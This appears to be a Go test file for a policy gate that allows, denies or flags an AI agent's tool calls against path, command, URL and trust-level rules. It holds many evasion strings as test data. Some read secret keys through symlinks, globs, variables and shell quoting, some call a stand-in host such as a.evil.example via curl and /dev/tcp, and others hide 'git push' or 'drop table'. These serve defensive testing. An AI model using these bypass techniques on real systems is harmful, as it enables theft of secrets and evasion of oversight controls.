package rules

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/zeph-acp/zeph-acp/cmd/zeph-acp/catalogue/cataloguetest"
	"github.com/zeph-acp/zeph-acp/executors"
	"github.com/zeph-acp/zeph-acp/executors/command"
	"github.com/zeph-acp/zeph-acp/executors/gates/rules/target"
	"github.com/zeph-acp/zeph-acp/filter/text/setting"
)

// workspace is a directory with files, links and a place outside of it.
type workspace struct{ dir, cwd, out string }

func newWorkspace(t testing.TB) workspace {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	w := workspace{dir, filepath.Join(dir, "w"), filepath.Join(dir, "out")}
	for _, d := range []string{"w/src", "w/secrets/deep", "w/empty", "out"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o700); err != nil {
			t.Fatal(err)
		}
	}
	for _, f := range []string{"w/secrets/key", "w/src/main.go", "w/.env", "out/x"} {
		if err := os.WriteFile(filepath.Join(dir, f), nil, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for link, to := range map[string]string{"w/lnk": "w/secrets", "w/src/k": "w/secrets/key", "w/exit": "out"} {
		if err := os.Symlink(filepath.Join(dir, to), filepath.Join(dir, link)); err != nil {
			t.Skip("no symbolic links here:", err)
		}
	}
	return w
}

func (w workspace) options() Options {
	return Options{
		Session: target.Session{Cwd: w.cwd, Home: "/home/u"}, Roots: []string{w.cwd}, Tools: cataloguetest.Known,
		Getenv: func(name string) string { return map[string]string{"CI": "1"}[name] },
	}
}

// real returns where a path leads, as the tools resolve it.
func (w workspace) real(path string) string {
	if !filepath.IsAbs(path) {
		path = filepath.Join(w.cwd, path)
	}
	if found, err := filepath.EvalSymlinks(path); err == nil {
		return found
	}
	return filepath.Clean(path)
}

// call returns a prepared call: "bash COMMAND", "fetch URL", "server__tool {JSON}", or
// a tool for files with its paths.
func (w workspace) call(text string) *executors.Call {
	tool, rest, _ := strings.Cut(text, " ")
	c := &executors.Call{Tool: tool, Record: &executors.Record{}, Spec: cataloguetest.Spec(tool)}
	c.Spec.Name = tool
	input := map[string]any{}
	switch {
	case tool == "bash":
		c.Card = executors.Card{Kind: executors.KindExecute, Script: command.Parse(rest, command.Shell{Dir: w.cwd, Home: "/home/u"})}
		c.Spec.Effect = executors.Mutates
		input["command"] = rest
	case tool == "fetch", tool == "http_head":
		c.Card, input["url"] = executors.Card{Kind: executors.KindFetch, URL: rest}, rest
	case strings.Contains(tool, "__"):
		c.Spec.Server, _, _ = strings.Cut(tool, "__")
		c.Input = json.RawMessage(rest)
		return c
	case rest != "":
		from, to, two := strings.Cut(rest, " -> ")
		c.Card = executors.Card{Kind: map[string]executors.Kind{
			"read": executors.KindRead, "write": executors.KindEdit, "copy_path": executors.KindEdit, "move_path": executors.KindMove,
			"delete_path": executors.KindDelete, "grep": executors.KindSearch, "list_directory": executors.KindRead,
		}[tool], Paths: []string{w.real(from)}}
		c.Spec.Effect = executors.Mutates
		if c.Card.Kind == executors.KindRead || c.Card.Kind == executors.KindSearch {
			c.Spec.Effect = executors.Reads
		}
		if input["path"] = from; two {
			input = map[string]any{"source": from, "destination": to}
			c.Card.Paths = append(c.Card.Paths, w.real(to))
		}
	}
	c.Input, _ = json.Marshal(input)
	return c
}

// TestRules checks one rule, or two, with calls that it must and must not match. "D" is
// the directory of the workspace's parent.
func TestRules(t *testing.T) {
	w := newWorkspace(t)
	allow := func(tool string, paths ...string) Rule {
		return Rule{Effect: executors.Allow, Tool: tool, Paths: paths}
	}
	deny := func(tool string, paths ...string) Rule {
		return Rule{Effect: executors.Deny, Tool: tool, Paths: paths}
	}
	args := func(r Rule, regex string) Rule { r.ArgsMatch = regex; return r }
	level := func(r Rule, level string) Rule { r.TrustLevel = level; return r }
	env := func(r Rule, names ...string) Rule { r.Env = names; return r }
	tests := []struct {
		name  string
		rules []Rule
		// calls by decision; the default of each list is "-", no decision
		denied, asked, allowed, silent []string
		level                          string
	}{
		{
			name: "a shell has three names", rules: []Rule{deny("SH")},
			denied: []string{"bash ls", "sh__bash {}", "x__shell {}"}, silent: []string{"read src/main.go", "bash_output"},
		},
		{
			name: "a deny of a directory", rules: []Rule{deny("*", "secrets")},
			denied: []string{
				"read secrets/key", "read lnk/key", "read src/k", "read src/../secrets/key", "read SECRETS/key", "read D/w/secrets/key", "list_directory secrets",
				"copy_path secrets/key -> src/x", "copy_path src/main.go -> secrets/x", "move_path . -> D/out/y", "delete_path secrets", "grep .",
				"bash cat secrets/key", "bash cat src/../secrets/key", "bash cat lnk/key", "bash cat src/k", "bash cat s*/key", "bash cd secrets && cat key",
				"bash x=secrets; cat $x/key",
				"bash cat <secrets/key", "bash echo >secrets/new", "bash env -C secrets cat key", "bash sh -c 'cat \"sec\"rets/key'", "bash cat 'secrets'/key",
				"bash curl file:///D/w/secrets/key", "bash tar c .", "bash rm -r .", "bash rg x", "bash find", "bash python -c \"open('secrets/key')\"",
				`s__read {"path":"secrets/key"}`, `s__read {"file_path":"lnk/key"}`, `s__x {"a":{"roots":["file:///D/w/SECRETS/key"]}}`,
				`s__x {"any":"D/w/secrets/key"}`, `s__read {"path":"secrets/key","path":"x"}`, `s__read {"PATH":["a",{"b":"secrets/key"}],"file":"secrets/key"}`,
				`s__x {"uri":"file:///D/w/../w/%73ecrets/key"}`,
			},
			asked: []string{`s__read {"path":"x","path":"y"}`, "bash cat $(cat name)", "bash cat \"$1\"", "bash cat ("},
			silent: []string{"read src/main.go", "read secrets2", "bash cat src/main.go", "bash go test ./src", "grep src", "fetch https://example.com/secrets",
				`s__read {"path":"src"}`, "update_plan"},
		},
		{
			name: "a deny of names anywhere", rules: []Rule{deny("*", "**/.env")},
			denied: []string{"read .env", "bash cat .ENV", "bash cat .e*", "bash . ./.env", `s__x {"path":".env"}`},
			asked:  []string{"grep .", "bash grep -r x .", "copy_path src -> D/out/src", "bash cat $x"},
			silent: []string{"read src/main.go", "bash go test", "list_directory ."},
		},
		{
			name: "an allow needs every place", rules: []Rule{allow("*", "src/**"), allow("read", "*.md")},
			allowed: []string{"read src/main.go", "read README.md", "read secrets/a.md", "grep src", "copy_path src/main.go -> src/x", "bash cd src && ls",
				`s__x {"path":"src/main.go"}`},
			silent: []string{
				"read secrets/key", "read src/k", "read src/../secrets/key", "copy_path src/main.go -> out", "copy_path secrets/key -> src/x", "grep .",
				"bash cat src/main.go", // it runs in the workspace
				"bash cd src && cat k", "bash cd src && cat ../.env", "bash cd src && cat $x", "fetch https://example.com/src/",
				`s__x {"path":"src/main.go","dest":"x"}`, `s__x {}`, "update_plan",
			},
		},
		{
			name: "an allow of commands", rules: []Rule{args(allow("bash"), `^go (test|vet)( |$)`), allow("bash", "D/w/src/**")},
			allowed: []string{"bash go test ./...", "bash go vet && go test", "bash cd src", "bash cd src && go test"},
			silent: []string{"bash go test; rm x", "bash go test $(rm x)", "bash go test $X", "bash go test > x", "bash go run .", "bash /tmp/go test",
				"bash echo go test", "read x"},
		},
		{
			name: "a deny of commands", rules: []Rule{args(deny("bash"), `^git push\b`)},
			denied: []string{
				"bash git push", "bash ls; git push", "bash /tmp/git push", "bash git -C src push", "bash GIT push", "bash 'git' \"push\"", "bash env git push",
				"bash bash -c 'git push'", "bash x=push; git $x", "bash echo $(git push)",
			},
			asked:  []string{"bash git $(cat verb)", "bash $x push"},
			silent: []string{"bash git pull", "bash echo git", "read git push"},
		},
		{
			name: "texts of other tools", rules: []Rule{args(deny("*"), `(?i)drop table`), args(allow("s__*"), `^select `)},
			denied: []string{`s__query {"sql":"drop table x"}`, `s__query {"x":[{"y":"DROP TABLE"}]}`}, allowed: []string{`s__query {"sql":"select 1"}`},
			silent: []string{`s__query {"sql":"delete","note":"select 1"}`, `s__query {}`},
		},
		{
			name: "addresses", rules: []Rule{deny("*", "*.evil.example", "https://example.com/admin*"),
				allow("fetch", "https://*.example.com/*", "https://example.com")},
			denied: []string{
				"fetch https://a.evil.example/x", "http_head https://a.evil.example/x", "fetch http://A.EVIL.example./", "fetch https://example.com/%61dmin/x",
				"fetch https://EXAMPLE.com:443/admin", "bash curl http://a.evil.example", "bash curl a.evil.example/x", "bash git push git@a.evil.example:x",
				`s__get {"url":"https://a.evil.example/"}`, "bash cat </dev/tcp/a.evil.example/80", "bash curl --proxy=http://a.evil.example x",
			},
			allowed: []string{"fetch https://example.com/x", "fetch https://a.example.com/x"},
			silent:  []string{"fetch http://example.com/", "fetch https://example.com.other/", "fetch https://other/a.example.com/", "fetch https://example.com:8443/"},
		},
		{
			name: "a deny wins in any order", rules: []Rule{allow("read"), deny("*", "secrets/**"), allow("read", "secrets/key")},
			denied: []string{"read secrets/key"}, allowed: []string{"read src/main.go"},
		},
		{
			name: "variables", rules: []Rule{env(deny("read"), "CI"), env(deny("write"), "CI", "OTHER")},
			denied: []string{"read x"}, silent: []string{"write x"},
		},
		{
			name: "trust", rules: []Rule{level(allow("read"), "provisional"), level(deny("write"), "untrusted")}, level: "untrusted",
			denied: []string{"write x"}, silent: []string{"read x"},
		},
		{
			name: "more trust", rules: []Rule{level(allow("read"), "verified"), level(deny("write"), "quarantined")}, level: "trusted",
			denied: []string{"write x"}, allowed: []string{"read x"},
		},
		{
			name: "a blocked call", rules: []Rule{level(allow("read"), "untrusted")}, level: "blocked",
			silent: []string{"read x"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			for i := range tt.rules {
				for j, p := range tt.rules[i].Paths {
					tt.rules[i].Paths[j] = strings.ReplaceAll(p, "D/", w.dir+"/")
				}
			}
			o := w.options()
			if tt.level != "" {
				o.Level = func(*executors.Call) string { return tt.level }
			}
			if wrong := setting.Check(Authorization{Rules: tt.rules}); len(wrong) > 0 {
				t.Fatalf("setting.Check(Authorization{Rules: tt.rules}): got %v, want none", wrong)
			}
			gate := &Authorizer{lists: []list{compile(tt.rules, "", o)}, options: o}
			for want, calls := range map[executors.Decision][]string{executors.Deny: tt.denied, executors.Ask: tt.asked, executors.Allow: tt.allowed, "": tt.silent} {
				for _, text := range calls {
					text = strings.ReplaceAll(strings.ReplaceAll(text, "/D/", w.dir+"/"), "D/", w.dir+"/")
					if v := gate.Check(t.Context(), w.call(text)); v.Decision != want {
						t.Errorf("%s: %q (%s; %s), want %q", text, v.Decision, v.Rule, v.Reason, want)
					}
				}
			}
		})
	}
}

func TestDefaults(t *testing.T) {
	w := newWorkspace(t)
	read := Rule{Effect: executors.Allow, Tool: "read", position: "c.toml:3"}
	nothing := Rule{Effect: executors.Deny, Tool: "read", Paths: []string{"secrets/**"}, position: "c.toml:9"}
	for name, tt := range map[string]struct {
		gate *Authorizer
		rule map[string]string // of each call; "" means no decision
	}{
		"off":     {NewPolicy(Config{Rules: []Rule{nothing}}, w.options()), nil},
		"off too": {NewAuthorization(Authorization{Rules: []Rule{nothing}}, w.options()), nil},
		"policy denies": {NewPolicy(Config{Enabled: true, DefaultEffect: executors.Deny, Rules: []Rule{read, nothing}}, w.options()), map[string]string{
			"read x": "rule[0] allow: tool=read matched read (c.toml:3)", "write x": "default: deny (no matching rules)",
			"read secrets/key": "rule[1] deny: tool=read matched read (c.toml:9)",
		}},
		"policy allows": {NewPolicy(Config{Enabled: true, DefaultEffect: executors.Allow}, w.options()),
			map[string]string{"write x": "default: allow (no matching rules)"}},
		"a list of denied calls": {NewAuthorization(Authorization{Enabled: true, Rules: []Rule{nothing}}, w.options()), map[string]string{
			"read x": "", "read secrets/key": "rule[0] deny: tool=read matched read (c.toml:9)",
		}},
		"a list of allowed calls": {NewAuthorization(Authorization{Enabled: true, Rules: []Rule{read}}, w.options()), map[string]string{
			"read x": "rule[0] allow: tool=read matched read (c.toml:3)", "write x": "default: deny (no matching rules)",
		}},
	} {
		t.Run(name, func(t *testing.T) {
			if (tt.gate == nil) != (tt.rule == nil) {
				t.Fatalf("the gate is %v", tt.gate)
			}
			for text, want := range tt.rule {
				if v := tt.gate.Check(t.Context(), w.call(text)); v.Rule != want {
					t.Errorf("%s: %+v, want %q", text, v, want)
				}
			}
		})
	}
}

// A call cannot change the rules that check it.
func TestOwnFile(t *testing.T) {
	w := newWorkspace(t)
	file := filepath.Join(w.cwd, "secrets", "key")
	gate := NewPolicy(Config{Enabled: true, DefaultEffect: executors.Allow, File: file}, w.options())
	for text, want := range map[string]executors.Decision{
		"read secrets/key": executors.Allow, "write secrets/key": executors.Deny, "write src/k": executors.Deny, "move_path secrets -> x": executors.Deny,
		"delete_path .": executors.Deny, "bash echo >src/k": executors.Deny, "bash rm -r secrets": executors.Deny, "bash cat secrets/key": executors.Allow,
		"bash make": executors.Allow, "write src/main.go": executors.Allow, `s__put {"path":"secrets/key"}`: executors.Deny,
	} {
		if v := gate.Check(t.Context(), w.call(text)); v.Decision != want {
			t.Errorf("%s: %+v, want %s", text, v, want)
		}
	}
}

// A repository's rules deny, even without the user's, and do nothing else.
func TestTighten(t *testing.T) {
	w := newWorkspace(t)
	repo := Config{Enabled: true, DefaultEffect: executors.Allow, PolicyFile: "x",
		Rules: []Rule{{Effect: executors.Allow, Tool: "write"}, {Effect: executors.Deny, Tool: "read"}}}
	for name, user := range map[string]Config{
		"off": {DefaultEffect: executors.Deny},
		"on":  {Enabled: true, DefaultEffect: executors.Deny, Rules: []Rule{{Effect: executors.Allow, Tool: "read"}}},
	} {
		c, ignored := setting.Tighten(user, repo, setting.Paths[Config]()...)
		if got := fmt.Sprint(ignored); got != "[default_effect policy_file rules[0]]" || c.PolicyFile != "" {
			t.Errorf("%s: ignored %s", name, got)
		}
		gate := NewPolicy(c, w.options())
		if v := gate.Check(t.Context(), w.call("read x")); v.Decision != executors.Deny {
			t.Errorf("%s: read: got %+v, want a denial", name, v)
		}
		if v := gate.Check(t.Context(), w.call("write x")); v.Decision == executors.Allow {
			t.Errorf("%s: write: got %+v, want it not allowed", name, v)
		}
	}
}

// A check that takes too long denies, also one that a cancel stops.
func TestStopped(t *testing.T) {
	w := newWorkspace(t)
	gate := NewPolicy(Config{Enabled: true, DefaultEffect: executors.Allow, Rules: []Rule{{Effect: executors.Deny, Tool: "*", ArgsMatch: "x$"}}}, w.options())
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if v := gate.Check(ctx, w.call("read y")); v.Decision != executors.Deny {
		t.Errorf("got %+v, want a denial after the cancellation", v)
	}
}

func BenchmarkCheck(b *testing.B) {
	w := newWorkspace(b)
	var rules []Rule
	for i := range MaxRules {
		r := Rule{Effect: executors.Deny, Tool: "*", Paths: []string{fmt.Sprintf("secrets%d/**", i)}}
		if i%2 == 1 {
			r = Rule{Effect: executors.Allow, Tool: "bash", ArgsMatch: fmt.Sprintf("^tool%d( |$)", i)}
		}
		rules = append(rules, r)
	}
	gate := NewPolicy(Config{Enabled: true, DefaultEffect: executors.Deny, Rules: rules}, w.options())
	for name, text := range map[string]string{"read": "read src/main.go", "bash": "bash tool255 src/main.go && tool1"} {
		call := w.call(text)
		b.Run(name, func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				gate.Check(b.Context(), call)
			}
		})
	}
}
